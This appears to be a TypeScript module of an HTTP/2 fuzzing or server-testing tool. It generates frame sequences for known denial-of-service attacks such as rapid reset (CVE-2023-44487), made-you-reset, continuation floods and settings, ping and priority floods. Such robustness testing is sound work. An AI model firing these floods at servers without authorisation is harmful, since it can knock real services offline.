import type { Random } from "#lib/random.ts";
import { pick } from "../chance.ts";
import { encodeHeaders, type Frame, flags, frameTypes } from "../http2-wire.ts";
import type { BytesShot, Target } from "../shot.ts";
import { call, emptySettings, framesShot, headersFrame } from "./http2-shots.ts";
import { callHeaders } from "./odd-header-blocks.ts";

/** Much of one kind on one connection; the known attacks by name. The server may answer, refuse or hang up. */
export function http2Flood(random: Random, target: Target): BytesShot {
  const [note, frames] = pick<() => readonly [string, readonly Frame[]]>(random, [
    () => ["rapid reset (CVE-2023-44487)", rapidReset(target, random.whole(100, 1_500))],
    () => ["made you reset (CVE-2025-8671)", madeYouReset(target, random.whole(50, 400))],
    () => [
      "settings flood (CVE-2019-9515)",
      repeat(random.whole(500, 3_000), () => settings(4, random.whole(0, 0x7fff_ffff))),
    ],
    () => ["empty settings flood", repeat(random.whole(500, 5_000), () => emptySettings)],
    () => ["ping flood (CVE-2019-9512)", repeat(random.whole(500, 5_000), ping)],
    () => ["priority flood (CVE-2019-9513)", repeat(2_000, (at) => priority((at % 500) * 2 + 1))],
    () => ["window update flood", repeat(3_000, () => windowUpdate(0, 1))],
    () => ["continuation flood (CVE-2024-27316)", continuations(target, random.whole(5, 300))],
    () => ["empty frames flood (CVE-2019-9518)", emptyData(target, random.whole(500, 3_000))],
    () => ["tiny windows (CVE-2019-9511)", tinyWindows(target)],
    () => ["no windows (CVE-2019-9517)", [settings(4, 0), ...calls(target, 50)]],
    () => ["more streams than are allowed", repeat(1_200, (at) => opening(target, at * 2 + 1))],
    () => ["resets of streams that never were", repeat(2_000, (at) => reset(at * 2 + 1))],
    () => [
      "header table sizes back and forth",
      repeat(2_000, (at) => settings(1, at % 2 === 0 ? 0 : 0xffff_ffff)),
    ],
    () => ["many calls at once", calls(target, 100)],
    () => [
      "unknown frames",
      repeat(2_000, (at) => ({ type: 0x40 + (at % 50), flags: 0, stream: at, payload: Buffer.alloc(5) })),
    ],
  ])();
  return framesShot(note, [emptySettings, ...frames], {
    // Every frame of a flood is no case of its own.
    cases: 1,
    ending: pick(random, ["half-close", "half-close", "half-close", "reset", "deaf"]),
  });
}

function repeat(times: number, make: (at: number) => Frame): readonly Frame[] {
  return Array.from({ length: times }, (_, at) => make(at));
}

function calls(target: Target, count: number): readonly Frame[] {
  return Array.from({ length: count }, (_, at) => call(target, at * 2 + 1)).flat();
}

function opening(target: Target, stream: number): Frame {
  return headersFrame(stream, encodeHeaders(callHeaders(target)), flags.endHeaders);
}

function reset(stream: number): Frame {
  return { type: frameTypes.rstStream, flags: 0, stream, payload: Buffer.from([0, 0, 0, 8]) };
}

function rapidReset(target: Target, count: number): readonly Frame[] {
  return Array.from({ length: count }, (_, at) => [opening(target, at * 2 + 1), reset(at * 2 + 1)]).flat();
}

/** The client breaks the rules of a stream, so that the server is the one who resets it. */
function madeYouReset(target: Target, count: number): readonly Frame[] {
  return Array.from({ length: count }, (_, at) => [
    ...call(target, at * 2 + 1),
    windowUpdate(at * 2 + 1, 0),
  ]).flat();
}

function settings(id: number, value: number): Frame {
  const payload = Buffer.alloc(6);
  payload.writeUInt16BE(id, 0);
  payload.writeUInt32BE(value, 2);
  return { ...emptySettings, payload };
}

const ping = (): Frame => ({ type: frameTypes.ping, flags: 0, stream: 0, payload: Buffer.alloc(8) });

function priority(stream: number): Frame {
  return { type: frameTypes.priority, flags: 0, stream, payload: Buffer.from([0x80, 0, 0, 9, 255]) };
}

function windowUpdate(stream: number, increment: number): Frame {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(increment, 0);
  return { type: frameTypes.windowUpdate, flags: 0, stream, payload };
}

function continuations(target: Target, count: number): readonly Frame[] {
  const more = encodeHeaders([["x-more", "y".repeat(1_000)]]);
  const frames = repeat(count, () => ({ type: frameTypes.continuation, flags: 0, stream: 1, payload: more }));
  return [headersFrame(1, encodeHeaders(callHeaders(target)), 0), ...frames];
}

function emptyData(target: Target, count: number): readonly Frame[] {
  const empty = { type: frameTypes.data, flags: 0, stream: 1, payload: Buffer.alloc(0) };
  return [opening(target, 1), ...repeat(count, () => empty)];
}

function tinyWindows(target: Target): readonly Frame[] {
  const steps = repeat(20, () => windowUpdate(1, 1));
  return [settings(4, 1), ...calls(target, 20), ...steps];
}
